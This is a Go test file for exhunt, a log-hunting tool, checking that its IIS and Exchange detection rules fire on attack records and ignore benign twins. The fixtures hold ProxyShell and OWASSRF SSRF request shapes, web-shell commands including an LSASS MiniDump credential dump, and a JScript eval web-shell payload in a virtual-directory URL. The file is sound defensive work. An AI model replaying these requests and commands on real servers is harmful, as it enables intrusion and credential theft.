package rules_test

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/exhunt/exhunt/internal/evidence"
	"github.com/exhunt/exhunt/internal/exlog"
	"github.com/exhunt/exhunt/internal/iislog"
	"github.com/exhunt/exhunt/internal/rules"
)

// Rule ids of the built-in log packs (pack/webserver, pack/exchange).
const (
	plSSRFJs         = "fe2cae0f-1872-487d-82ea-322fd27c5548"
	plStaticPost     = "a124d51b-0f8c-4a23-b0c3-04026d968011"
	plResetOAB       = "43220ebf-46f4-4004-8e5b-028b14979547"
	plRPCProxy       = "b5198850-58c1-49be-9e3c-a5d123931d36"
	plProxyShell     = "d28efe8d-33db-4c38-9d58-463aa6613390"
	plProxyNotShell  = "f38d5fbf-6eac-4663-9e5e-a69d055dd7bc"
	plOWASSRF        = "29bbe1db-b0f4-40af-bcfa-3c09f7b060d0"
	plServerInfo     = "734f7ab5-4ce2-4c2a-9f96-510222054be4"
	plBackEndCookie  = "69259570-108f-4042-99dd-f5390b9e70d5"
	plResetVDir      = "cc5e0d38-6c68-40c5-bc14-503059fbb8b0"
	plECPScript      = "8eda4fc2-e39a-4538-8a4f-d4d6cb0794f0"
	plOABDownload    = "ebf220bf-05c5-4331-bc1c-45491ab6757c"
	plMailboxExport  = "82abd8d8-7b6e-414b-b793-cbb625be7e86"
	plExportWebshell = "d36fc664-6595-4dbb-b1f4-c968bdb34e88"
	plImportExport   = "c34c30c7-928c-438c-a005-c55fbc4a3fce"
	plProxyShellHP   = "afe21176-e987-4dbc-9533-cdac75c72f0b"
	plOWASSRFHP      = "bb16abae-ea34-4300-849e-410b86fd519f"
	plIPIIS          = "c5ad4838-19d0-456a-8a92-64cf32755501"
	plIPHP           = "cac720ad-55e2-41d3-affc-996dc11242e3"
	plUAIIS          = "c3d4b874-a65e-497e-9d17-a0c6c9c7c3da"
	plUAHP           = "e8267aaf-6c5f-488e-9a5d-8b3dd266fd4a"
	plGooglebot      = "16ad40d8-bc39-401e-bbf0-37dc6181e819"
	plWebshell       = "0a8fab97-6c27-45db-8211-14cbbb3b1965"
	plWebshellCmd    = "b483843e-e51c-4470-a1c7-5f9ad591c4d3"
	plTunnel         = "ca9b7a95-7de7-4715-868a-1853959ebfcc"
	plWebshellHP     = "8691c3d9-321c-4d5c-9f69-f7b3ecea4f96"
	plWebshellCmdHP  = "95b08694-8b3d-4404-acaa-b87eea5a91e9"
	plRpsProxyShell  = "27352f3a-7f9d-4fb7-9a6d-1a1e5b7ae55f"
)

func plBuiltin(t *testing.T) *rules.Set {
	t.Helper()
	s, errs := rules.Builtin()
	for _, e := range errs {
		t.Errorf("built-in pack: %v", e)
	}
	return s
}

// plIIS is one IIS request; empty strings are written as "-".
type plIIS struct{ method, stem, query, user, ip, ua, status string }

const plIISFields = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"

func (r plIIS) line() string {
	d := func(s string) string {
		if s == "" {
			return "-"
		}
		return strings.ReplaceAll(s, " ", "+")
	}
	return strings.Join([]string{"2021-03-03", "02:16:53", "10.0.0.5", d(r.method), d(r.stem), d(r.query), "443",
		d(r.user), d(r.ip), d(r.ua), "-", d(r.status), "0", "0", "15"}, " ")
}

// plEx is one Exchange log record: the #Log-type, the folder it sits in
// and its columns.
type plEx struct {
	logType, dir string
	cols         []string
	vals         map[string]string
}

func (r plEx) text() (string, string) {
	var b bytes.Buffer
	b.WriteString("#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: " + r.logType +
		"\r\n#Date: 2021-03-03T00:00:00.000Z\r\n#Fields: " + strings.Join(r.cols, ",") + "\r\n")
	row := make([]string, len(r.cols))
	for i, c := range r.cols {
		row[i] = r.vals[c]
	}
	w := csv.NewWriter(&b)
	w.UseCRLF = true
	w.Write(row)
	w.Flush()
	return b.String(), r.dir + "/x.LOG"
}

var (
	plHPCols  = strings.Split("DateTime,RequestId,Protocol,UrlHost,UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,Method,RoutingHint,BackEndCookie,UrlQuery", ",")
	plECPCols = []string{"TimeStamp", "ServerName", "EventId", "EventData"}
	plOABCols = []string{"DateTime", "Level", "Message"}
	plCmdCols = []string{"DateTime", "RequestId", "AuthenticatedUser", "Cmdlet", "Parameters", "ExecutionResult"}
	plRpsCols = []string{"DateTime", "RequestId", "UrlStem", "AuthenticatedUser", "ClientIpAddress", "ServerHostName", "HttpStatus", "ShellId", "ClientInfo", "UrlQuery"}
)

// rps is one back-end PowerShell HTTP log record (Rps_Http_*.LOG).
func rps(query, client string) plEx {
	return plEx{"Rps Http Logs", "V15/Logging/CmdletInfra/Powershell-Proxy/Http", plRpsCols, map[string]string{
		"DateTime": "2023-11-09T22:29:28.901Z", "RequestId": "0cd07968-a191-4883-aa5b-101cd097efcf", "UrlStem": "/Powershell",
		"AuthenticatedUser": "Jones@contoso.com", "ClientIpAddress": "172.23.193.148", "ServerHostName": "EXCHANGE2012",
		"HttpStatus": "200", "ClientInfo": client, "UrlQuery": query}}
}

func hp(kv ...string) plEx {
	v := map[string]string{"DateTime": "2021-03-03T02:16:53.012Z", "RequestId": "6b1d5c1e-0c1a-4d32-9a51-0a2f0d1e3b41", "Protocol": "Ecp", "ServerHostName": "EXCH01", "HttpStatus": "200", "Method": "POST"}
	for i := 0; i+1 < len(kv); i += 2 {
		v[kv[i]] = kv[i+1]
	}
	return plEx{"HttpProxy Logs", "V15/Logging/HttpProxy/" + v["Protocol"], plHPCols, v}
}

func ecp(eventData string) plEx {
	return plEx{"ECP Server Log", "V15/Logging/ECP/Server", plECPCols, map[string]string{
		"TimeStamp": "2021-03-03T02:17:12.207Z", "ServerName": "EXCH01", "EventId": "ECP.Request", "EventData": eventData}}
}

func oab(msg string) plEx {
	return plEx{"OABGenerator Log", "V15/Logging/OABGeneratorLog", plOABCols, map[string]string{
		"DateTime": "2021-03-03T02:17:40.100Z", "Level": "Error", "Message": msg}}
}

func cmdlet(name, params string) plEx {
	return plEx{"CmdletInfra Cmdlet Logs", "V15/Logging/CmdletInfra/Powershell-Proxy/Cmdlet", plCmdCols, map[string]string{
		"DateTime": "2021-03-03T03:02:11.000Z", "RequestId": "b1e2c3d4-0000-4000-8000-000000000001", "AuthenticatedUser": `CONTOSO\SYSTEM$`,
		"Cmdlet": name, "Parameters": params, "ExecutionResult": "Success"}}
}

// plFired parses one log line the way hunt does (prefilter on the raw line,
// then the parser, then Match) and returns the ids of the rules that fired.
func plFired(t *testing.T, set *rules.Set, in any) []string {
	t.Helper()
	var fired []string
	collect := func(m *rules.Matcher) func(*evidence.Record) error {
		return func(r *evidence.Record) error {
			m.Match(r, func(rule *rules.Rule) { fired = append(fired, rule.ID) })
			return nil
		}
	}
	switch r := in.(type) {
	case plIIS:
		m := set.ForSource(iislog.LogSource)
		text := "#Software: Microsoft Internet Information Services 10.0\n#Fields: " + plIISFields + "\n" + r.line() + "\n"
		opt := iislog.Options{Filter: m.Candidate}
		if _, err := iislog.Parse(t.Context(), strings.NewReader(text), "u_ex210303.log", opt, collect(m)); err != nil {
			t.Fatal(err)
		}
	case plEx:
		text, src := r.text()
		var recs []*evidence.Record
		st, err := exlog.Parse(t.Context(), strings.NewReader(text), src, exlog.Options{}, func(rec *evidence.Record) error {
			recs = append(recs, rec)
			return nil
		})
		if err != nil || st.Malformed != 0 || len(recs) != 1 {
			t.Fatalf("exlog: err %v, stats %+v", err, st)
		}
		m := set.ForSource(recs[0].Log)
		data := text[strings.LastIndex(strings.TrimRight(text, "\r\n"), "\n")+1:]
		if !m.Candidate([]byte(data)) {
			// Not a failure by itself: only twins may be skipped.
			return nil
		}
		collect(m)(recs[0])
	}
	slices.Sort(fired)
	return fired
}

func TestPackLogsRules(t *testing.T) {
	set := plBuiltin(t)
	const (
		evil   = "203.0.113.66"
		inside = "10.0.0.20"
	)
	tests := []struct {
		name     string
		rule     string
		tp, twin any
	}{
		{"ssrf ecp y.js", plSSRFJs,
			plIIS{"POST", "/ecp/y.js", "", "", evil, "Mozilla/5.0", "200"},
			plIIS{"GET", "/ecp/15.1.2176/scripts/y.js", "", "", evil, "Mozilla/5.0", "200"}},
		{"ssrf owa auth x.js", plSSRFJs,
			plIIS{"POST", "/owa/auth/x.js", "", "", evil, "Mozilla/5.0", "500"},
			plIIS{"GET", "/owa/auth/15.1.2176/scripts/premium/x.js", "", "", evil, "Mozilla/5.0", "200"}},
		{"post to static resource", plStaticPost,
			plIIS{"POST", "/owa/auth/Current/themes/resources/logon.css", "", "", evil, "DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)", "200"},
			plIIS{"GET", "/owa/auth/Current/themes/resources/logon.css", "", "", evil, "Mozilla/5.0", "200"}},
		{"post to ecp main.css", plStaticPost,
			plIIS{"POST", "/ecp/main.css", "", "", evil, "Mozilla/5.0", "241"},
			plIIS{"GET", "/ecp/main.css", "", "", evil, "Mozilla/5.0", "200"}},
		{"reset oab vdir", plResetOAB,
			plIIS{"POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=ResetOABVirtualDirectory&msExchEcpCanary=abc", "", evil, "", "200"},
			plIIS{"POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=OABVirtualDirectory&msExchEcpCanary=abc", `CONTOSO\admin`, inside, "", "200"}},
		{"rpcproxy GET from outside", plRPCProxy,
			plIIS{"GET", "/rpc/rpcproxy.dll", "", "", evil, "python-requests/2.25.1", "401"},
			plIIS{"RPC_IN_DATA", "/rpc/rpcproxy.dll", "exch01.contoso.local:6001", `CONTOSO\alice`, evil, "MSRPC", "200"}},
		{"rpcproxy GET from inside", plRPCProxy,
			plIIS{"POST", "/rpc/rpcproxy.dll", "", "", "2001:db8::66", "", "401"},
			plIIS{"GET", "/rpc/rpcproxy.dll", "", "", "fd00::5", "", "401"}},
		{"proxyshell nspi", plProxyShell,
			plIIS{"POST", "/autodiscover/autodiscover.json", "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp", "", evil, "python-requests/2.25.1", "200"},
			plIIS{"GET", "/autodiscover/autodiscover.json", "Email=alice@contoso.com&Protocol=ActiveSync&RedirectCount=1", "", evil, "Outlook-iOS/709.2226530.prod.iphone", "200"}},
		{"proxyshell powershell unauthenticated", plProxyShell,
			plIIS{"POST", "/autodiscover/autodiscover.json", "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.corp", "", evil, "", "200"},
			plIIS{"POST", "/autodiscover/autodiscover.json", "@evil.corp/powershell/?Email=autodiscover/autodiscover.json%3F@evil.corp", `CONTOSO\bob`, evil, "", "200"}},
		{"proxynotshell", plProxyNotShell,
			plIIS{"POST", "/autodiscover/autodiscover.json", "@evil.corp/owa/?&Email=autodiscover/autodiscover.json%3F@evil.corp&Protocol=XYZ&FooProtocol=Powershell", `CONTOSO\bob`, evil, "", "200"},
			plIIS{"POST", "/autodiscover/autodiscover.json", "@evil.corp/owa/?&Email=autodiscover/autodiscover.json%3F@evil.corp&Protocol=XYZ&FooProtocol=Powershell", "", evil, "", "401"}},
		{"owassrf", plOWASSRF,
			plIIS{"POST", "/owa/mastermailbox@outlook.com/powershell", "", `CONTOSO\bob`, evil, "", "200"},
			plIIS{"POST", "/powershell", "serializationLevel=Full;clientApplication=EMC", `CONTOSO\admin`, inside, "Microsoft WinRM Client", "200"}},
		{"webshell in aspnet_client", plWebshell,
			plIIS{"POST", "/aspnet_client/system_web/Xk3pQz8a.aspx", "", "", evil, "antSword/v2.1", "200"},
			plIIS{"POST", "/aspnet_client/system_web/Xk3pQz8a.aspx", "", "", evil, "antSword/v2.1", "404"}},
		{"webshell in owa auth, stock twin", plWebshell,
			plIIS{"GET", "/owa/auth/errorEE.aspx", "", "", evil, "", "200"},
			plIIS{"GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0", "", evil, "", "200"}},
		{"webshell command", plWebshellCmd,
			plIIS{"GET", "/aspnet_client/system_web/Xk3pQz8a.aspx", "cmd=whoami", "", evil, "", "200"},
			plIIS{"GET", "/aspnet_client/system_web/Xk3pQz8a.aspx", "lang=en", "", evil, "", "200"}},
		{"webshell command lsass dump", plWebshellCmd,
			plIIS{"POST", "/ecp/auth/shell.aspx", "p=rundll32+C:\\windows\\system32\\comsvcs.dll+MiniDump+624+C:\\root\\lsass.dmp+full", "", evil, "", "200"},
			plIIS{"POST", "/ecp/auth/TimeoutLogout.aspx", "cmd=whoami", "", evil, "", "200"}},
		// The shape of a real lab request (the devilzShell web shell in a
		// folder of its own, answered 200) and the stock near miss.
		{"webshell command anywhere", plWebshellCmd,
			plIIS{"GET", "/aspnet_netclient/4_0_30319/devilzShell.aspx", "cmd=dsquery+computer+-limit+0", "", evil, "", "200"},
			plIIS{"GET", "/owa/auth/logon.aspx", "replaceCurrent=1&url=https%3a%2f%2fmail.contoso.com%2fowa%2f%3fcmd%3ddsquery", "", evil, "", "200"}},
		// Searches that name an operator command: SharePoint's search
		// results page, a site's search box. The twins are web-shell use
		// the same words can carry: shell syntax, a POST, a drop folder,
		// a base64 command ("cmd /c whoami" is Y21kIC9jIHdob2FtaQ).
		{"webshell command vs sharepoint search", plWebshellCmd,
			plIIS{"GET", "/_layouts/15/osssearchresults.aspx", "k=powershell+-enc+SQBFAFgA", "", evil, "", "200"},
			plIIS{"GET", "/_layouts/15/osssearchresults.aspx", "k=powershell+script+examples", `CONTOSO\alice`, inside, "Mozilla/5.0", "200"}},
		{"webshell command vs search box", plWebshellCmd,
			plIIS{"GET", "/search.aspx", "q=cmd+/c+whoami", "", evil, "", "200"},
			plIIS{"GET", "/search.aspx", "q=cmd.exe+whoami+meaning", "", inside, "Mozilla/5.0", "200"}},
		{"webshell command chained whoami", plWebshellCmd,
			plIIS{"GET", "/app/find.aspx", "q=whoami%26hostname", "", evil, "", "200"},
			plIIS{"GET", "/app/find.aspx", "q=whoami&lang=en", "", inside, "Mozilla/5.0", "200"}},
		{"webshell command posted", plWebshellCmd,
			plIIS{"POST", "/app/find.aspx", "query=whoami", "", evil, "", "200"},
			plIIS{"GET", "/app/find.aspx", "query=whoami", "", inside, "Mozilla/5.0", "200"}},
		{"webshell command in a drop folder", plWebshellCmd,
			plIIS{"GET", "/aspnet_client/system_web/find.aspx", "q=whoami", "", evil, "", "200"},
			plIIS{"GET", "/help/find.aspx", "q=whoami", "", inside, "", "200"}},
		{"webshell command base64", plWebshellCmd,
			plIIS{"GET", "/_layouts/15/osssearchresults.aspx", "k=powershell&u=Y21kIC9jIHdob2FtaQ", "", evil, "", "200"},
			plIIS{"GET", "/_layouts/15/osssearchresults.aspx", "k=powershell&u=aHR0cHM6Ly9pbnRyYW5ldA", "", inside, "", "200"}},
		{"webshell ashx in owa auth", plWebshell,
			plIIS{"GET", "/owa/auth/Currentthemes/resources/win.ashx", "", "", evil, "", "302"},
			plIIS{"GET", "/owa/auth/Current/themes/resources/logon.css", "", "", evil, "", "200"}},
		{"webshell twist on a stock name", plWebshell,
			plIIS{"GET", "/owa/auth/RedirSuiteServerProxy.aspx", "", "", "139.162.202.236", "", "200"},
			plIIS{"GET", "/owa/auth/RedirSuiteServiceProxy.aspx", "", "", "139.162.202.236", "", "200"}},
		// Tunna's first request, as in EVTX-ATTACK-SAMPLES' real IIS log,
		// and reGeorg's connect; the twins are its data POSTs (query
		// "proxy") and an ordinary query naming a port.
		{"tunna tunnel", plTunnel,
			plIIS{"GET", "/erp/conn.aspx", "proxy&port=3389&ip=127.0.0.1", "", "10.0.2.17", "", "200"},
			plIIS{"POST", "/erp/conn.aspx", "proxy", "", "10.0.2.17", "", "200"}},
		{"regeorg tunnel", plTunnel,
			plIIS{"POST", "/aspnet_client/tunnel.aspx", "cmd=connect&target=10.0.0.5&port=445", "", evil, "python-requests/2.25.1", "200"},
			plIIS{"GET", "/app/report.aspx", "report=connect&port=8080", `CONTOSOlice`, inside, "", "200"}},
		{"attacker ip", plIPIIS,
			plIIS{"GET", "/owa/", "", "", "104.140.114.110", "", "302"},
			plIIS{"GET", "/owa/", "", "", "104.140.114.111", "", "302"}},
		{"ioc user agent", plUAIIS,
			plIIS{"POST", "/ecp/y.js", "", "", evil, "ExchangeServicesClient/0.0.0.0", "200"},
			plIIS{"POST", "/EWS/Exchange.asmx", "", `CONTOSO\alice`, inside, "ExchangeServicesClient/15.01.2176.002", "200"}},
		{"spoofed googlebot", plGooglebot,
			plIIS{"POST", "/owa/auth/Current/themes/resources/lgnbotl.gif", "", "", evil, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "200"},
			plIIS{"GET", "/owa/auth/logon.aspx", "", "", "66.249.66.1", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "200"}},

		{"httpproxy serverinfo", plServerInfo,
			hp("AnchorMailbox", "ServerInfo~a]@exch01.contoso.local:444/ecp/proxyLogon.ecp#", "UrlStem", "/ecp/y.js", "ClientIpAddress", evil),
			hp("AnchorMailbox", "ServerInfo~a]@exch01.contoso.local:444/autodiscover/autodiscover.xml?#", "UrlStem", "/ecp/y.js", "ClientIpAddress", evil)},
		{"httpproxy serverinfo localhost twin", plServerInfo,
			hp("AnchorMailbox", "ServerInfo~exch01.contoso.local/mapi/emsmdb/?#", "UrlStem", "/ecp/y.js", "ClientIpAddress", evil),
			hp("AnchorMailbox", "ServerInfo~localhost:444/ecp/DDI/DDIService.svc/GetList#", "UrlStem", "/ecp/y.js", "ClientIpAddress", evil)},
		{"httpproxy backend cookie", plBackEndCookie,
			hp("BackEndCookie", "Server~exch01.contoso.local:444/ecp/proxyLogon.ecp?a=~1942062522", "ClientIpAddress", evil),
			hp("BackEndCookie", "Server~exch01.contoso.local~1942062522", "ClientIpAddress", inside)},
		{"httpproxy reset vdir 200", plResetVDir,
			hp("AnchorMailbox", "ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#", "HttpStatus", "200"),
			hp("AnchorMailbox", "ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#", "HttpStatus", "500")},
		{"ecp set vdir script", plECPScript,
			ecp(`S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:BLD=15.1.2176.2;S:CMD=Set-OabVirtualDirectory.ExternalUrl="http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script>".Identity="0b4c1e4a"`),
			ecp(`S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:BLD=15.1.2176.2;S:CMD=Set-OabVirtualDirectory.ExternalUrl="https://mail.contoso.com/OAB".Identity="OAB (Default Web Site)"`)},
		{"oab download outside OAB", plOABDownload,
			oab(`Download failed and temporary file 'C:\inetpub\wwwroot\aspnet_client\system_web\Xk3pQz8a.aspx' needs to be removed`),
			oab(`Download failed and temporary file 'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\b3c1e8d0.tmp' needs to be removed`)},
		{"mailbox export", plMailboxExport,
			cmdlet("New-MailboxExportRequest", `-Mailbox "ceo@contoso.com" -FilePath "\\fs01\pst$\ceo.pst"`),
			cmdlet("Get-MailboxExportRequest", `-Status Completed`)},
		{"mailbox export to aspx", plExportWebshell,
			cmdlet("New-MailboxExportRequest", `-Mailbox "ceo@contoso.com" -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\a.aspx"`),
			cmdlet("New-MailboxExportRequest", `-Mailbox "ceo@contoso.com" -FilePath "\\fs01\pst$\ceo.pst"`)},
		{"import export role", plImportExport,
			cmdlet("New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "CONTOSO\administrator"`),
			cmdlet("New-ManagementRoleAssignment", `-Role "View-Only Recipients" -User "CONTOSO\helpdesk"`)},
		{"httpproxy proxyshell", plProxyShellHP,
			hp("Protocol", "Autodiscover", "UrlStem", "/autodiscover/autodiscover.json", "UrlQuery", "?@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp"),
			hp("Protocol", "Autodiscover", "UrlStem", "/autodiscover/autodiscover.json", "UrlQuery", "?Email=alice@contoso.com&Protocol=ActiveSync")},
		{"httpproxy owassrf", plOWASSRFHP,
			hp("Protocol", "Owa", "UrlStem", "/owa/mastermailbox@outlook.com/powershell", "AuthenticatedUser", `CONTOSO\bob`),
			hp("Protocol", "PowerShell", "UrlStem", "/powershell", "AuthenticatedUser", `CONTOSO\admin`)},
		// The real incident's HttpProxy/Owa rows (helsecert): the web shell
		// answered 200, probes of other names 302.
		{"httpproxy webshell in owa auth", plWebshellHP,
			hp("Protocol", "Owa", "UrlStem", "/owa/auth/RedirSuiteServerProxy.aspx", "HttpStatus", "200", "Method", "GET", "ClientIpAddress", "67.205.176.9"),
			hp("Protocol", "Owa", "UrlStem", "/owa/auth/RedirSuiteServiceProxy.aspx", "HttpStatus", "200", "Method", "GET", "ClientIpAddress", "67.205.176.9")},
		{"httpproxy webshell probe", plWebshellHP,
			hp("Protocol", "Owa", "UrlStem", "/owa/auth/Current/themes/errorFS.aspx", "HttpStatus", "302", "Method", "GET"),
			hp("Protocol", "Owa", "UrlStem", "/owa/auth/Current/themes/errorFS.aspx", "HttpStatus", "404", "Method", "GET")},
		{"httpproxy webshell command", plWebshellCmdHP,
			hp("Protocol", "Owa", "UrlStem", "/owa/auth/zntwv.aspx", "UrlQuery", "?c=whoami", "HttpStatus", "200"),
			hp("Protocol", "Owa", "UrlStem", "/owa/auth/logon.aspx", "UrlQuery", "?c=whoami", "HttpStatus", "200")},
		// The lab ProxyShell run's back-end view (real Rps_Http lines) and
		// the front end's own proxied PowerShell session.
		{"rps http proxyshell", plRpsProxyShell,
			rps("?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@fucky0u.edu", "Python PSRP Client"),
			rps("?X-Rps-CAT=VgEAVAdXaW5kb3dz&clientApplication=ActiveMonitor;PSVersion=5.1.14393.5582", "Microsoft WinRM Client")},
		{"httpproxy attacker ip", plIPHP,
			hp("ClientIpAddress", "5.254.43.18", "UrlStem", "/owa/"),
			hp("ClientIpAddress", "5.254.43.180", "UrlStem", "/owa/")},
		{"httpproxy ioc user agent", plUAHP,
			hp("UserAgent", "python-requests/2.19.1", "UrlStem", "/ecp/y.js"),
			hp("UserAgent", "python-requests/2.31.0", "UrlStem", "/ecp/y.js")},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := plFired(t, set, tc.tp); !slices.Contains(got, tc.rule) {
				t.Errorf("true positive: rule %s did not fire (fired: %v)", tc.rule, got)
			}
			if got := plFired(t, set, tc.twin); slices.Contains(got, tc.rule) {
				t.Errorf("benign twin: rule %s fired", tc.rule)
			}
		})
	}
}

var plUUIDv4 = regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)

// TestPackLogsMetadata checks every log rule carries the metadata findings
// and reviewers rely on.
func TestPackLogsMetadata(t *testing.T) {
	set := plBuiltin(t)
	n := 0
	for _, r := range set.Rules() {
		if !strings.Contains(r.Path, "webserver/") && !strings.Contains(r.Path, "exchange/") {
			continue
		}
		n++
		switch {
		case !plUUIDv4.MatchString(r.ID):
			t.Errorf("%s: id %q is not a UUIDv4", r.Path, r.ID)
		case r.Title == "" || r.Description == "" || r.Author != "exhunt" || r.Date == "" || r.Status == "":
			t.Errorf("%s: missing title, description, author, date or status", r.Path)
		case len(r.References) == 0 || len(r.FalsePositives) == 0:
			t.Errorf("%s: needs references and falsepositives", r.Path)
		case len(r.Attack()) == 0:
			t.Errorf("%s: no ATT&CK technique tag", r.Path)
		case r.Level.Rank() < 0:
			t.Errorf("%s: level %q", r.Path, r.Level)
		}
	}
	if n != 28 {
		t.Errorf("found %d log rules, want 28 (update the list above when adding rules)", n)
	}
}

// BenchmarkPackLogsIIS measures the hunt's hot path on busy-server IIS
// traffic: the built-in prefilter on every raw line, then parsing and
// matching the candidates. It reports the share of lines that passed the
// prefilter, with the whole pack and without the attacker-IP rules (whose
// dotted values give the prefilter no usable atom).
func BenchmarkPackLogsIIS(b *testing.B) {
	full, _ := rules.Builtin()
	noIP, _ := rules.NewSet(slices.DeleteFunc(full.Rules(), func(r *rules.Rule) bool { return r.ID == plIPIIS || r.ID == plIPHP })...)
	var buf bytes.Buffer
	buf.WriteString("#Fields: " + plIISFields + "\n")
	stems := []string{"/owa/", "/EWS/Exchange.asmx", "/Microsoft-Server-ActiveSync/default.eas", "/mapi/emsmdb/", "/autodiscover/autodiscover.xml", "/owa/auth/logon.aspx", "/owa/service.svc"}
	uas := []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)", "Apple-iPhone11C2/1802.67"}
	for i := 0; buf.Len() < 16<<20; i++ {
		r := plIIS{"POST", stems[i%len(stems)], "Cmd=Sync&User=alice&DeviceId=ABC" + string(rune('A'+i%26)), `CONTOSO\alice`, "198.51.100." + string(rune('1'+i%9)), uas[i%len(uas)], "200"}
		buf.WriteString(r.line() + "\n")
	}
	data := buf.Bytes()
	for _, c := range []struct {
		name string
		set  *rules.Set
	}{{"builtin", full}, {"without-ip-iocs", noIP}} {
		b.Run(c.name, func(b *testing.B) {
			m := c.set.ForSource(iislog.LogSource)
			var cand int64
			filter := func(l []byte) bool {
				ok := m.Candidate(l)
				if ok {
					cand++
				}
				return ok
			}
			b.SetBytes(int64(len(data)))
			for b.Loop() {
				cand = 0
				st, err := iislog.Parse(b.Context(), bytes.NewReader(data), "bench", iislog.Options{Filter: filter}, func(r *evidence.Record) error {
					m.Match(r, func(*rules.Rule) {})
					return nil
				})
				if err != nil {
					b.Fatal(err)
				}
				b.ReportMetric(float64(cand)/float64(st.Lines), "candidates/line")
			}
		})
	}
}
